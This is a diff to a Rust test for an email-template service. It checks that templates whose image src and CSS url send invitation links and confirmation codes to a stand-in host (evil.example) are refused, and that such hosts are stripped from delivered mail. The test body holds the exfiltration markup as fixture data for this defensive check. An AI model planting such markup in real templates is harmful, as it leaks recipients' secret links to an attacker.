@@ -259,13 +259,21 @@ fn row_15_opening_a_mail_sends_its_link_to_nobody() {
     let body = "<img src='https://evil.example/{{invitation-link}}'>\
         <p style='background: url(//evil.example/{{confirmation-code}})'><a href='{{invitation-link}}'>Here</a></p>";
     let template = json!({ "contentType": "text/html", "subject": "Come in", "body": body, "footer": "" });
-    assert_eq!(app.admin("PUT", &format!("{ASK}/org-templates/en_US"), template.to_string()).status, 200);
+    let refused = app.admin("PUT", &format!("{ASK}/org-templates/en_US"), template.to_string());
+    assert_eq!(refused.status, 400);
+    assert!(refused.text.contains("loads https://evil.example/{{invitation-link}}"), "{}", refused.text);
+    assert!(refused.text.contains("loads //evil.example/{{confirmation-code}}"), "{}", refused.text);
+    // Nor would it be sent, had it been stored before it was refused: what is loaded is rendered without the link.
+    let allowed = template
+        .to_string()
+        .replace("https://evil.example/{{invitation-link}}", "x.png")
+        .replace("url(//evil.example/{{confirmation-code}})", "red");
+    assert_eq!(app.admin("PUT", &format!("{ASK}/org-templates/en_US"), allowed).status, 200);
+    app.native.sqlite.with(|connection| connection.execute("UPDATE templates SET body = ?1", [body]).unwrap());
     app.invite("paul");
-    let link = app.newest_link();
+    app.deliver();
     let html = app.inbox().remove(0)["html"].as_str().unwrap().to_owned();
-    assert!(html.contains("src='https://evil.example/'") && html.contains("url(//evil.example/)"), "{html}");
-    assert!(html.contains(&format!("{link}'>Here</a>")), "{html}");
-    assert_eq!(html.matches("lk1.").count(), 1, "{html}");
+    assert!(!html.contains("evil.example"), "{html}");
 }
 
 #[test]
